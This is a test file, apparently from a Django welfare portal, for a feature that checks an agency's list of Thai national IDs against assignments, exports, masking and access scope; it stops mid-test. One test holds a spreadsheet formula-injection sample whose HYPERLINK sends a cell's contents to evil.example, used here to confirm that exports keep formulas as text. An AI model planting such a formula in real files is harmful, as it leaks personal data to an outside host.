"""The name check (ตรวจสอบรายชื่อกับรายชื่อของหน่วยงาน, issue 13): an agency's own list against the people
assigned to it, in six groups, each a name list; from the matched group to recorded progress; the same
from the command line."""

import csv
import datetime
import io
import re

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from cardholders.models import ImportJob
from development.models import Progress
from development.name_check import Layout, detect_layout, mask_cell, parse_id
from development.name_check_models import NameCheck, NameCheckRow
from development.services import progress_record
from matching.models import Capacity
from matching.services import delegation_create, matching_run_confirm, matching_run_create
from welfare_portal.models import AccessLog, DevelopmentUnit, Province, Role

from .conftest import SUBDISTRICT_SAMUT_PRAKAN, make_cardholder, make_user, valid_national_id
from .matching_builders import applicant, project

TITLE_ROW = ["รายชื่อผู้เข้ารับการฝึกอบรม โครงการสร้างสัมมาชีพ จังหวัดลำปาง ปีงบประมาณ 2561"]
HEADER = ["ลำดับ", "ชื่อ-สกุล", "เลขบัตรประชาชน", "หมายเหตุ"]


@pytest.fixture(autouse=True)
def inline_and_private_media(settings, tmp_path):
    settings.IMPORTS_IN_BACKGROUND = False
    settings.MEDIA_ROOT = tmp_path / "media"


def _confirm(province_code):
    province = Province.objects.get(code=province_code)
    matching_run_confirm(run=matching_run_create(province=province, user=None), user=None)


@pytest.fixture
def world(db):
    """One person for every group, the way a district's people stand in 2561."""
    lampang = Province.objects.get(code=52)
    Capacity.objects.create(province=lampang, project=project("DOE01"), seats=0)
    w = {
        "both": applicant("CDD01"),
        "both_2": applicant("CDD02"),
        "assigned_only": applicant("CDD03"),
        "other_unit": applicant("BAAC01"),
        "reinterview": applicant("DOE01"),  # no seats: back to the AO
    }
    _confirm(52)
    w["elsewhere"] = applicant("CDD01", subdistrict=SUBDISTRICT_SAMUT_PRAKAN)
    _confirm(11)
    w["waiting"] = applicant("CDD01")
    w["delegated"] = applicant("RICE01")
    delegation_create(province=lampang, unit=DevelopmentUnit.objects.get(code="RICE"), user=None)
    w["not_interviewed"] = make_cardholder()
    w["stranger"] = valid_national_id(99_000_001)  # a valid ID no one on the register has
    return w


def _list_rows(w):
    """The agency's list as typed: IDs with dashes, spaces, as numbers; one listed twice; three bad ones."""
    both = w["both"].national_id
    return [
        [1, "นางทดสอบ ตรงกัน", f"{both[0]}-{both[1:5]}-{both[5:10]}-{both[10:12]}-{both[12]}", ""],  # row 4
        [2, "นางทดสอบ ตรงกันสอง", int(w["both_2"].national_id), ""],  # row 5, typed as a number
        [3, "นาย ธกส", w["other_unit"].national_id, ""],  # row 6
        [4, "นาย ต่างจังหวัด", " ".join([w["elsewhere"].national_id[:1], w["elsewhere"].national_id[1:]]), ""],
        [5, "นาง รอจับคู่", w["waiting"].national_id, ""],  # row 8
        [6, "นาง สัมภาษณ์ใหม่", w["reinterview"].national_id, ""],  # row 9
        [7, "นาง ไม่ได้สัมภาษณ์", w["not_interviewed"].national_id, ""],  # row 10
        [8, "นาง รอหน่วยงาน", w["delegated"].national_id, ""],  # row 11
        [9, "นาย ไม่มีบัตร", w["stranger"], ""],  # row 12
        [10, "นาย เลขสั้น", "12345", ""],  # row 13
        [11, "นาย ไม่กรอก", "", "ลืมกรอก"],  # row 14
        [12, "นาย เลขผิด", w["both"].national_id[:12] + str((int(w["both"].national_id[12]) + 1) % 10), ""],  # 15
        [13, "นางทดสอบ ตรงกัน (ซ้ำ)", both, ""],  # row 16: the same person as row 4
    ]


def _xlsx(rows, *, header=HEADER, title=True, name="cdd.xlsx"):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    if title:
        sheet.append(TITLE_ROW)
        sheet.append([])
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return SimpleUploadedFile(name, buffer.getvalue())


def _csv_file(rows, header=HEADER, name="cdd.csv"):
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(header)
    writer.writerows(rows)
    return SimpleUploadedFile(name, text.getvalue().encode("utf-8-sig"))


@pytest.fixture
def cdd(db):
    return make_user("CDD5200", Role.UNIT, province_id=52, unit=DevelopmentUnit.objects.get(code="CDD"))


def _upload(client, upload, **fields):
    return client.post(reverse("name_check_home"), {"file": upload, **fields})


def _counts(check):
    return {group: getattr(check, group) for group in check.counts}


def _group_html(client, check, group, **query):
    return client.get(reverse("name_check_group", args=[check.pk, group]), query).content.decode()


# ---- the six groups ------------------------------------------------------------------------------------


def test_it_sorts_an_agency_list_into_the_six_groups(client, world, cdd):
    client.force_login(cdd)
    response = _upload(client, _xlsx(_list_rows(world)))
    check = NameCheck.objects.get()
    assert response.url == reverse("name_check", args=[check.pk])
    assert check.status == "done" and check.unit.code == "CDD" and check.province_id == 52
    assert _counts(check) == {
        "both": 2,
        "assigned_only": 1,
        "other_agency": 2,
        "not_assigned": 4,
        "not_cardholder": 1,
        "invalid": 3,
    }
    assert check.rows_read == 13
    page = client.get(response.url).content.decode()
    for group, count in _counts(check).items():
        assert re.search(rf'data-testid="count-{group}">{count}<', page)
    assert world["assigned_only"].full_name in _group_html(client, check, "assigned_only")


def test_it_says_where_each_listed_person_stands(client, world, cdd):
    client.force_login(cdd)
    _upload(client, _xlsx(_list_rows(world)))
    check = NameCheck.objects.get()
    details = dict(NameCheckRow.objects.filter(name_check=check).values_list("row_no", "detail"))
    assert details[6] == "other_unit" and details[7] == "elsewhere"
    assert (details[8], details[9], details[10], details[11]) == (
        "waiting",
        "reinterview",
        "not_interviewed",
        "delegated",
    )
    assert (details[13], details[14], details[15]) == ("format", "blank", "checksum")
    waiting = _group_html(client, check, "not_assigned")
    for words in (
        "ทำแบบประเมินแล้ว รอการจับคู่",
        "อยู่ในรายชื่อที่ต้องสัมภาษณ์ใหม่",
        "ยังไม่ได้ทำแบบประเมิน",
        "รอหน่วยงานที่ได้รับมอบหมายพิจารณารับ",
    ):
        assert words in waiting
    invalid = _group_html(client, check, "invalid")
    assert "ไม่ใช่ตัวเลข 13 หลัก" in invalid and "ไม่ได้กรอกเลขประจำตัวประชาชน" in invalid and "ลืมกรอก" in invalid


def test_an_id_listed_twice_counts_once_with_a_warning_naming_the_rows(client, world, cdd):
    client.force_login(cdd)
    _upload(client, _xlsx(_list_rows(world)))
    check = NameCheck.objects.get()
    assert check.both == 2 and check.duplicate_ids == 1 and check.duplicates == [[4, 16]]
    page = client.get(reverse("name_check", args=[check.pk])).content.decode()
    assert "เลขประจำตัวประชาชนซ้ำกัน 1 เลข (นับเพียงครั้งเดียว): แถวที่ 4 และ 16" in page
    assert "ซ้ำกับแถวที่ 16 (นับครั้งเดียว)" in _group_html(client, check, "both")


def test_it_reads_ids_with_dashes_spaces_thai_digits_and_numbers():
    national_id = valid_national_id(1234)
    typed = [
        national_id,
        f"{national_id[0]}-{national_id[1:5]}-{national_id[5:10]}-{national_id[10:12]}-{national_id[12]}",
        f" {national_id[:5]} {national_id[5:]} ",
        int(national_id),
        float(national_id),
        national_id.translate(str.maketrans("0123456789", "๐๑๒๓๔๕๖๗๘๙")),
    ]
    assert {parse_id(value) for value in typed} == {(national_id, "")}
    assert parse_id("") == (None, "blank") and parse_id(None) == (None, "blank")
    assert parse_id("310170000000") == (None, "format") and parse_id("ไม่มีบัตร") == (None, "format")
    assert parse_id("0" + national_id[1:]) == (None, "first_digit")
    assert parse_id(national_id[:12] + str((int(national_id[12]) + 1) % 10)) == (None, "checksum")


def test_a_csv_list_in_windows_874_without_title_rows_works_too(client, world, cdd):
    client.force_login(cdd)
    rows = [[1, "สมหญิง", world["both"].national_id, ""], [2, "สมชาย", world["stranger"], ""]]
    text = io.StringIO()
    csv.writer(text).writerows([["ลำดับ", "ชื่อ", "เลขประจำตัวประชาชน", "หมายเหตุ"], *rows])
    _upload(client, SimpleUploadedFile("cdd.csv", text.getvalue().encode("cp874")))
    check = NameCheck.objects.get()
    assert (check.both, check.not_cardholder, check.header_row) == (1, 1, None)
    assert check.columns == ["ลำดับ", "ชื่อ", "เลขประจำตัวประชาชน", "หมายเหตุ"] and check.id_column == 2
    assert list(NameCheckRow.objects.filter(group="both").values_list("row_no", flat=True)) == [2]


def test_it_compares_in_sql_whatever_the_length_of_the_list(client, world, cdd):
    """Set-based: a list ten times longer costs no more statements (no query per row)."""
    client.force_login(cdd)
    client.get(reverse("home"))  # the session's idle timer is refreshed here, not in one of the two uploads

    def statements(extra):
        rows = _list_rows(world) + [[n, "เพิ่ม", valid_national_id(98_000_000 + n), ""] for n in range(extra)]
        with CaptureQueriesContext(connection) as queries:
            _upload(client, _csv_file(rows))
        return len(queries)

    assert statements(50) == statements(500)
    assert NameCheck.objects.order_by("pk").last().not_cardholder == 501


# ---- header detection and the user's choice ------------------------------------------------------------


def test_it_finds_the_id_column_by_its_header_below_title_rows(client, world, cdd):
    client.force_login(cdd)
    _upload(client, _xlsx(_list_rows(world)))
    check = NameCheck.objects.get()
    assert (check.header_row, check.id_column) == (3, 2)
    assert check.columns == HEADER
    page = client.get(reverse("name_check", args=[check.pk])).content.decode()
    assert "เลขบัตรประชาชน (หัวตารางแถวที่ 3)" in page


def test_it_knows_the_usual_headers_and_skips_lookalikes():
    both = ["ที่อยู่ตามบัตรประชาชน", "เลขประจำตัวประชาชน"]
    sample = [(None, ["ลำดับ", *both]), (2, ["1", "12 ม.3 ลำปาง", valid_national_id(5)])]
    assert detect_layout(sample)[0] == Layout(0, 2)
    for header in ("เลขประจำตัวประชาชน*", "เลขบัตรประชาชน", "เลขที่บัตรประจำตัวประชาชน", "National ID", "PID"):
        assert detect_layout([(None, ["ชื่อ", header])])[0] == Layout(0, 1), header


def test_it_asks_which_column_holds_the_ids_when_the_header_does_not_say(client, world, cdd):
    client.force_login(cdd)
    rows = [["สมหญิง", world["both"].national_id], ["สมชาย", world["stranger"]]]
    _upload(client, _xlsx(rows, header=["ชื่อ", "เลข"], title=False))
    check = NameCheck.objects.get()
    assert check.status == "needs_column"
    page = client.get(reverse("name_check", args=[check.pk])).content.decode()
    assert "เลือกคอลัมน์เลขประจำตัวประชาชน" in page and "คอลัมน์ที่ 2: เลข" in page
    assert check.preview["header_index"] == 0 and check.preview["id_column"] == 1  # the suggestion
    client.post(reverse("name_check_column", args=[check.pk]), {"header_index": 0, "id_column": 1})
    check.refresh_from_db()
    assert check.status == "done" and (check.both, check.not_cardholder, check.invalid) == (1, 1, 0)


def test_the_user_may_say_the_file_has_no_header_row(client, world, cdd):
    client.force_login(cdd)
    rows = [[world["both"].national_id, "สมหญิง"], [world["both_2"].national_id, "สมศรี"]]
    upload = _csv_file(rows[1:], header=rows[0])
    _upload(client, upload)
    check = NameCheck.objects.get()
    assert check.status == "needs_column" and check.preview["header_index"] == -1
    client.post(reverse("name_check_column", args=[check.pk]), {"header_index": -1, "id_column": 0})
    check.refresh_from_db()
    assert check.both == 2 and check.columns == ["คอลัมน์ที่ 1", "คอลัมน์ที่ 2"]
    assert sorted(NameCheckRow.objects.filter(group="both").values_list("row_no", flat=True)) == [1, 2]


def test_a_file_that_cannot_be_read_is_refused_with_the_reason(client, cdd, db):
    client.force_login(cdd)
    response = _upload(client, SimpleUploadedFile("list.xlsx", b"just text, not a workbook"))
    assert NameCheck.objects.count() == 0
    assert "ไม่รับไฟล์ list.xlsx" in response.content.decode()
    response = _upload(client, SimpleUploadedFile("list.csv", b""))
    assert "ไฟล์ว่าง ไม่มีข้อมูล" in response.content.decode() and NameCheck.objects.count() == 0
    _upload(client, SimpleUploadedFile("list.csv", b"\r\n,,\r\n"))
    check = NameCheck.objects.get()
    assert check.status == "rejected" and "ไฟล์ว่าง" in check.message


# ---- masking and scope ---------------------------------------------------------------------------------


def test_ids_are_masked_as_the_viewers_role_masks_them(client, world, cdd, province_user):
    client.force_login(cdd)
    _upload(client, _xlsx(_list_rows(world)))
    check = NameCheck.objects.get()
    person = world["both"]
    full, masked = person.national_id_display, person.national_id_masked
    assert full in _group_html(client, check, "both")
    client.force_login(province_user)
    html = _group_html(client, check, "both")
    assert masked in html and person.national_id not in html and full not in html
    assert world["stranger"] not in _group_html(client, check, "not_cardholder")
    exported = client.get(reverse("name_check_group", args=[check.pk, "both"]), {"format": "csv"})
    text = b"".join(exported.streaming_content).decode("utf-8-sig")
    assert masked in text and person.national_id not in text and full not in text
    assert mask_cell("3-1017-00000-12-3x") == "3-1017-00000-12-3x"  # not an ID: left as typed


def test_an_agency_account_cannot_check_another_agency(client, world, cdd):
    client.force_login(cdd)
    baac = DevelopmentUnit.objects.get(code="BAAC")
    _upload(client, _xlsx(_list_rows(world)), unit=baac.pk, province=11)
    check = NameCheck.objects.get()
    assert (check.unit.code, check.province_id) == ("CDD", 52)  # fixed for an agency: the POST changes nothing
    theirs = NameCheck.objects.create(unit=baac, province_id=52, original_name="x.csv", stored_path="x", status="done")
    for url in (reverse("name_check", args=[theirs.pk]), reverse("name_check_group", args=[theirs.pk, "both"])):
        assert client.get(url).status_code == 404
    assert client.get(reverse("name_check_group", args=[theirs.pk, "both"]), {"format": "xlsx"}).status_code == 404


def test_a_province_cannot_see_another_provinces_checks(client, world, province_user, outsider):
    client.force_login(province_user)
    _upload(client, _xlsx(_list_rows(world)), unit=DevelopmentUnit.objects.get(code="CDD").pk)
    check = NameCheck.objects.get()
    assert check.province_id == 52 and check.both == 2
    client.force_login(outsider)
    urls = [
        reverse("name_check", args=[check.pk]),
        reverse("name_check_group", args=[check.pk, "both"]),
        reverse("name_check_group", args=[check.pk, "both"]) + "?format=csv",
        reverse("name_check_recorded", args=[check.pk]),
    ]
    for url in urls:
        assert client.get(url).status_code == 404, url
    assert client.post(reverse("name_check_again", args=[check.pk])).status_code == 404
    assert client.post(reverse("name_check_record", args=[check.pk]), {"scope": "all"}).status_code == 404
    assert check.original_name not in client.get(reverse("name_check_home")).content.decode()


def test_central_picks_the_province(client, world, central):
    client.force_login(central)
    cdd_unit = DevelopmentUnit.objects.get(code="CDD")
    response = _upload(client, _xlsx(_list_rows(world)), unit=cdd_unit.pk)
    assert "กรุณาเลือกจังหวัด" in response.content.decode() and NameCheck.objects.count() == 0
    _upload(client, _xlsx(_list_rows(world)), unit=cdd_unit.pk, province=11)
    check = NameCheck.objects.get()
    # In Samut Prakan only the person developed there is CDD's; Lampang's CDD people are "elsewhere".
    assert (check.province_id, check.both, check.other_agency, check.assigned_only) == (11, 1, 3, 0)


def test_only_agencies_provinces_and_central_may_check(client, db):
    for role, scope in ((Role.AO, {"province_id": 52}), (Role.KJJ, {"province_id": 52})):
        client.force_login(make_user(f"user-{role}", role, **scope))
        assert client.get(reverse("name_check_home")).status_code == 403


def test_out_of_scope_people_show_only_their_group(client, world, cdd):
    """An agency sees the other agency's person counted, not their name, district or project."""
    client.force_login(cdd)
    _upload(client, _xlsx(_list_rows(world)))
    html = _group_html(client, NameCheck.objects.get(), "other_agency")
    assert world["other_unit"].full_name not in html and "โครงการสินเชื่อเพื่อพัฒนาอาชีพ" not in html
    assert "ได้รับมอบหมายให้หน่วยงานอื่น" in html and "นาย ธกส" in html  # their own column, as they typed it


# ---- name lists: pages and exports ---------------------------------------------------------------------


def test_each_group_exports_with_the_users_own_columns_beside_the_portals(client, world, cdd):
    client.force_login(cdd)
    _upload(client, _xlsx(_list_rows(world)))
    check = NameCheck.objects.get()
    response = client.get(reverse("name_check_group", args=[check.pk, "both"]), {"format": "xlsx"})
    rows = list(openpyxl.load_workbook(io.BytesIO(response.content)).active.values)
    assert "ตรวจสอบรายชื่อ" in rows[0][0] and rows[1][0] and "both" not in rows[1][0]  # title rows in Thai
    rows = rows[2:]
    assert rows[0][:6] == ("ลำดับ", "แถวในไฟล์", "ลำดับ", "ชื่อ-สกุล", "เลขบัตรประชาชน", "หมายเหตุ")
    assert rows[0][6:] == (
        "เลขประจำตัวประชาชน (ในระบบ)",
        "ชื่อ-นามสกุล (ในระบบ)",
        "อำเภอ",
        "โครงการ",
        "สถานะการพัฒนา",
        "วันที่เริ่ม",
        "วันที่เสร็จ",
        "หมายเหตุ",
    )
    first = rows[1]
    assert first[1] == 4 and first[3] == "นางทดสอบ ตรงกัน" and first[7] == world["both"].full_name
    assert first[9] == "โครงการสร้างสัมมาชีพแก่ครัวเรือนยากจน (ทำงานมีนายจ้าง)" and first[10] == "ยังไม่ได้บันทึกผล"
    assert rows[-1][:2] == ("รวม", 2)
    response = client.get(reverse("name_check_group", args=[check.pk, "assigned_only"]), {"format": "csv"})
    lines = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert lines[0][:3] == ["ลำดับ", "เลขประจำตัวประชาชน (ในระบบ)", "ชื่อ-นามสกุล (ในระบบ)"]
    assert lines[1][2] == world["assigned_only"].full_name and lines[-1][:2] == ["รวม", "1"]


def test_exports_keep_formulas_as_text(client, world, cdd):
    client.force_login(cdd)
    rows = [[1, '=HYPERLINK("http://evil.example/?"&C2,"คลิก")', world["both"].national_id, "@SUM(1)"]]
    _upload(client, _csv_file(rows))
    check = NameCheck.objects.get()
    response = client.get(reverse("name_check_group", args=[check.pk, "both"]), {"format": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "'@SUM(1)" in text


def test_reading_a_checks_lists_is_logged(client, world, cdd):
    client.force_login(cdd)
    _upload(client, _xlsx(_list_rows(world)))
    check = NameCheck.objects.get()
    _group_html(client, check, "both")
    client.get(reverse("name_check_group", args=[check.pk, "invalid"]), {"format": "xlsx"})
    logged = list(AccessLog.objects.filter(user=cdd, action="export_list").values_list("detail", flat=True))
    assert f"ตรวจสอบรายชื่อ #{check.pk} both (หน้าเว็บ)" in logged
    assert f"ตรวจสอบรายชื่อ #{check.pk} invalid (xlsx)" in logged


def test_a_long_group_pages_like_the_other_name_lists(client, world, cdd):
    client.force_login(cdd)
    rows = [[n, "ผู้ไม่มีบัตร", valid_national_id(97_000_000 + n), ""] for n in range(120)]
    _upload(client, _csv_file(rows))
    check = NameCheck.objects.get()
    first = _group_html(client, check, "not_cardholder")
    assert "แสดงลำดับที่ 1–50 จาก 120 รายการ" in first
    last = _group_html(client, check, "not_cardholder", go="last")
    assert "แสดงลำดับที่ 71–120 จาก 120 รายการ" in last


# ---- history, checking again ---------------------------------------------------------------------------


def test_each_check_is_kept_with_who_when_which_file_and_the_counts(client, world, province_user):
    client.force_login(province_user)
    _upload(client, _xlsx(_list_rows(world), name="อบรมสัมมาชีพ.xlsx"), unit=DevelopmentUnit.objects.get(code="CDD").pk)
    check = NameCheck.objects.get()
    assert check.created_by == province_user and check.original_name == "อบรมสัมมาชีพ.xlsx"
    assert check.finished_at is not None and open(check.stored_path, "rb").read()[:2] == b"PK"
    html = client.get(reverse("name_check_home")).content.decode()
    assert "อบรมสัมมาชีพ.xlsx" in html and "P5200" in html and "ตรวจสอบแล้ว" in html


def test_checking_again_reads_the_same_file_against_todays_assignments(client, world, cdd):
    client.force_login(cdd)
    _upload(client, _xlsx(_list_rows(world)))
    first = NameCheck.objects.get()
    _confirm(52)  # the waiting person is matched to CDD01 meanwhile
    response = client.post(reverse("name_check_again", args=[first.pk]))
    again = NameCheck.objects.exclude(pk=first.pk).get()
    assert response.url == reverse("name_check", args=[again.pk]) and again.previous == first
    assert (again.both, again.not_assigned) == (first.both + 1, first.not_assigned - 1)


def test_a_check_whose_worker_died_says_so(client, cdd, db):
    from django.utils import timezone

    check = NameCheck.objects.create(
        unit=cdd.unit,
        province_id=52,
        original_name="x.csv",
        stored_path="x",
        status="running",
        heartbeat_at=timezone.now() - datetime.timedelta(minutes=5),
    )
    client.force_login(cdd)
    page = client.get(reverse("name_check", args=[check.pk])).content.decode()
    assert "หยุดกลางคัน" in page
    check.refresh_from_db()
    assert check.status == "failed"


# ---- from check to record ------------------------------------------------------------------------------


def test_it_records_progress_for_the_whole_matched_group_after_a_preview(client, world, cdd):
    client.force_login(cdd)
    _upload(client, _xlsx(_list_rows(world)))
    check = NameCheck.objects.get()
    data = {"scope": "all", "status": "completed", "started_on": "1/7/2561", "ended_on": "30/9/2561"}
    response = client.post(reverse("name_check_record", args=[check.pk]), data)
    job = ImportJob.objects.get()
    assert response.url == reverse("import_job", args=[job.pk])
    assert (job.kind, job.status, job.created) == ("progress", "previewed", 2) and not Progress.objects.exists()
    client.post(reverse("import_job_confirm", args=[job.pk]))
    records = Progress.objects.all()
    assert {r.cardholder_id for r in records} == {world["both"].pk, world["both_2"].pk}
    assert {(r.status, r.started_on, r.ended_on, r.channel, r.updated_by) for r in records} == {
        ("completed", datetime.date(2018, 7, 1), datetime.date(2018, 9, 30), "import", cdd)
    }
    recorded = client.get(reverse("name_check_recorded", args=[check.pk])).content.decode()
    assert re.search(r'data-testid="recorded-completed">2<', recorded)
    assert re.search(r'data-testid="recorded-none">0<', recorded)
    assert "บันทึกผลจากการตรวจสอบรายชื่อ" in recorded  # the import it made, linked
    html = _group_html(client, check, "both", recorded="completed")
    assert "30 ก.ย. 2561" in html and world["both_2"].full_name in html


def test_it_records_only_the_people_ticked_and_keeps_their_start_dates(client, world, cdd):
    progress_record(
        cardholder=world["both"],
        assignment=world["both"].assignments.get(),
        unit=cdd.unit,
        project=project("CDD01"),
        province=Province.objects.get(code=52),
        status="in_progress",
        started_on=datetime.date(2018, 7, 15),
        ended_on=None,
        user=None,
    )
    client.force_login(cdd)
    _upload(client, _xlsx(_list_rows(world)))
    check = NameCheck.objects.get()
    row = NameCheckRow.objects.get(name_check=check, cardholder=world["both"])
    data = {"scope": "selected", "row": [row.pk], "status": "completed", "ended_on": "30/9/2561"}
    job_url = client.post(reverse("name_check_record", args=[check.pk]), data).url
    client.post(reverse("import_job_confirm", args=[ImportJob.objects.get().pk]))
    assert job_url
    record = Progress.objects.get()
    assert (record.cardholder_id, record.status, record.started_on) == (
        world["both"].pk,
        "completed",
        datetime.date(2018, 7, 15),
    )


def test_errors_of_the_preview_name_the_rows_of_the_agencys_own_list(client, world, cdd):
    client.force_login(cdd)
    _upload(client, _xlsx(_list_rows(world)))
    check = NameCheck.objects.get()
    # No start date given and none recorded: the rule of form 4.1 refuses both people, by their rows 4 and 5.
    client.post(
        reverse("name_check_record", args=[check.pk]), {"scope": "all", "status": "completed", "ended_on": "30/9/2561"}
    )
    job = ImportJob.objects.get()
    assert job.status == "rejected" and [row for row, _, _ in job.errors] == [4, 5]
    assert all("วันที่เริ่ม" in message for _, _, message in job.errors) and not Progress.objects.exists()


def test_the_record_form_explains_what_is_missing(client, world, cdd):
    client.force_login(cdd)
    _upload(client, _xlsx(_list_rows(world)))
    check = NameCheck.objects.get()
    response = client.post(reverse("name_check_record", args=[check.pk]), {"scope": "selected", "status": "completed"})
    html = response.content.decode()
    assert "กรุณาระบุวันที่เสร็จ" in html and "กรุณาเลือกรายชื่ออย่างน้อย 1 คน" in html
    assert not ImportJob.objects.exists()


# ---- the command line ----------------------------------------------------------------------------------


def _command(*args):
    out, err = io.StringIO(), io.StringIO()
    call_command("check_names", *map(str, args), stdout=out, stderr=err)
    return out.getvalue().splitlines(), err.getvalue()


def test_the_command_prints_a_line_per_group_then_the_counts(world, tmp_path):
    path = tmp_path / "cdd.xlsx"
    path.write_bytes(_xlsx(_list_rows(world)).read())
    lines, err = _command(path, "--unit", "CDD", "--province", 52, "--output", tmp_path / "out")
    assert lines[-1] == "both=2 assigned_only=1 other_agency=2 not_assigned=4 not_cardholder=1 invalid=3"
    assert [line.split(":")[0] for line in lines[:-1]] == [
        "both",
        "assigned_only",
        "other_agency",
        "not_assigned",
        "not_cardholder",
        "invalid",
    ]
    assert "แถวที่ 4 และ 16" in err
    written = sorted(p.name for p in (tmp_path / "out").iterdir())
    assert written == sorted(
        f"{g}.csv" for g in ("both", "assigned_only", "other_agency", "not_assigned", "not_cardholder", "invalid")
    )
    both = list(csv.reader((tmp_path / "out" / "both.csv").open(encoding="utf-8")))
    assert both[1][1] == "4" and both[1][6] == world["both"].national_id_display  # the operator sees full IDs
    assert NameCheck.objects.get().channel == "command"


def test_the_command_without_a_province_compares_every_province(world, tmp_path):
    path = tmp_path / "cdd.csv"
    path.write_bytes(_csv_file(_list_rows(world)).read())
    lines, _ = _command(path, "--unit", "CDD")
    assert lines[-1] == "both=3 assigned_only=1 other_agency=1 not_assigned=4 not_cardholder=1 invalid=3"


def test_the_command_fails_clearly_when_the_file_cannot_be_read(world, tmp_path, capsys):
    missing = tmp_path / "none.xlsx"
    with pytest.raises(SystemExit) as exit_:
        _command(missing, "--unit", "CDD", "--province", 52)
    assert exit_.value.code == 1
    broken = tmp_path / "list.xlsx"
    broken.write_bytes(b"not a workbook")
    err = io.StringIO()
    with pytest.raises(SystemExit) as exit_:
        call_command("check_names", str(broken), "--unit", "CDD", stdout=io.StringIO(), stderr=err)
    assert exit_.value.code == 1 and "ตรวจสอบไฟล์ list.xlsx ไม่ได้" in err.getvalue()
    unclear = tmp_path / "ids.csv"
    unclear.write_bytes(_csv_file([["สมหญิง", world["both"].national_id]], header=["ชื่อ", "เลข"]).read())
    err = io.StringIO()
    with pytest.raises(SystemExit):
        call_command("check_names", str(unclear), "--unit", "CDD", stdout=io.StringIO(), stderr=err)
    assert "--column" in err.getvalue()
    lines, _ = _command(unclear, "--unit", "CDD", "--province", 52, "--column", "เลข")
    assert lines[-1].startswith("both=1 ")


def test_a_web_check_waits_in_the_queue_for_the_worker(client, world, cdd, settings):
    from django_tasks_db.management.commands.db_worker import Worker
    from django_tasks_db.models import DBTaskResult

    settings.IMPORTS_IN_BACKGROUND = True
    client.force_login(cdd)
    response = _upload(client, _xlsx(_list_rows(world)))
    check = NameCheck.objects.get()
    assert check.status == "queued" and not NameCheckRow.objects.exists()
    assert DBTaskResult.objects.get(id=check.task_id).task_path == "development.name_check.run_name_check"
    waiting = client.get(response.url).content.decode()
    assert "กำลังตรวจสอบรายชื่อ…" in waiting and 'http-equiv="refresh"' in waiting
    # What `manage.py db_worker` does with the ready task, in this process (as tests/test_matching_queue.py).
    worker = Worker(
        queue_names=["*"],
        interval=0,
        batch=True,
        backend_name="default",
        startup_delay=False,
        max_tasks=None,
        worker_id="test-worker",
        excluded_queue_names=[],
    )
    record = DBTaskResult.objects.ready().get_locked()
    record.claim(worker.worker_id)
    worker.run_task(record)
    done = client.get(response.url).content.decode()
    assert 'http-equiv="refresh"' not in done and re.search(r'data-testid="count-both">2<', done)


def test_listed_card_holders_of_other_provinces_count_against_the_probe_budget(client, world, cdd):
    """A name check is no oracle for IDs of other provinces: such rows are counted like a roster's, and a
    user who named too many lately is refused, as at the import page (cardholders/importers/probes.py)."""
    client.force_login(cdd)
    _upload(client, _xlsx(_list_rows(world)))
    assert list(AccessLog.objects.filter(user=cdd, action="probe_outside").values_list("detail", flat=True)) == ["1"]
    AccessLog.objects.create(user=cdd, action="probe_outside", detail="100")
    response = _upload(client, _xlsx(_list_rows(world)))
    assert "งดรับไฟล์จากบัญชีนี้ชั่วคราว" in response.content.decode() and NameCheck.objects.count() == 1


def test_uploaded_lists_are_deleted_after_the_retention_and_the_check_stays(
    client, world, cdd, settings, django_capture_on_commit_callbacks
):
    from django.utils import timezone

    from development.name_check import name_checks_expire

    client.force_login(cdd)
    _upload(client, _xlsx(_list_rows(world)))
    check = NameCheck.objects.get()
    stored = check.stored_path
    assert name_checks_expire() == 0 and open(stored, "rb")
    NameCheck.objects.filter(pk=check.pk).update(finished_at=timezone.now() - datetime.timedelta(days=8))
    assert name_checks_expire() == 1
    check.refresh_from_db()
    assert check.stored_path == "" and check.both == 2 and NameCheckRow.objects.filter(name_check=check).exists()
    again = client.post(reverse("name_check_again", args=[check.pk]), follow=True)
    assert "ไม่พบไฟล์เดิมแล้ว" in again.content.decode() and NameCheck.objects.count() == 1

    settings.UPLOAD_RETENTION_DAYS = 0
    with django_capture_on_commit_callbacks(execute=True):
        _upload(client, _xlsx(_list_rows(world)))
    latest = NameCheck.objects.order_by("pk").last()
    assert latest.status == "done" and latest.stored_path == ""


def test_the_users_cells_are_kept_as_typed_quotes_and_thai_included():
    import json

    from development.name_check import cells_json

    cells = ['นาง "สมศรี"', "12\\3", "a\nb", "x\x00y"]
    assert json.loads(cells_json(cells)) == ['นาง "สมศรี"', "12\\3", "a\nb", "xy"]  # jsonb holds no NUL


# ---- rounds (issue 15) ---------------------------------------------------------------------------------


def _second_round(*, close_first=False):
    """Round 2562 opened as the current one (the database default for new rows from now on)."""
    from welfare_portal.models import Round

    second = Round.objects.create_round("2562", name="ปี 2562", current=True)
    if close_first:
        Round.objects.filter(code="2561").update(is_closed=True)
    return second


def _choose_round(client, code):
    from welfare_portal.rounds import SESSION_KEY

    session = client.session
    session[SESSION_KEY] = code
    session.save()


def _interview_again(person, *codes):
    from cardholders.services import interview_record

    interview_record(
        cardholder=person,
        interviewed_on=datetime.date(2019, 6, 20),
        group=1,
        choices=[project(code) for code in codes],
        basic_needs=[],
        skill=None,
        user=None,
    )


@pytest.fixture
def two_rounds(db):
    """Matched to CDD in 2561; in 2562 one of them interviewed again and waiting, and a newcomer matched."""
    people = {"old": applicant("CDD01"), "old_again": applicant("CDD02")}
    _confirm(52)
    _second_round()
    people["new"] = applicant("CDD03")
    _confirm(52)
    _interview_again(people["old_again"], "CDD01")  # waiting for 2562's matching
    return people


def _round_list(people):
    return [[n, person.full_name, person.national_id, ""] for n, person in enumerate(people.values(), start=1)]


def test_a_check_in_2562_does_not_see_2561s_assignments(client, two_rounds, cdd):
    client.force_login(cdd)
    _upload(client, _xlsx(_round_list(two_rounds)))
    check = NameCheck.objects.get()
    assert check.round.code == "2562"
    assert (check.both, check.assigned_only, check.not_assigned) == (1, 0, 2)
    details = {row.cardholder_id: row.detail for row in NameCheckRow.objects.filter(name_check=check)}
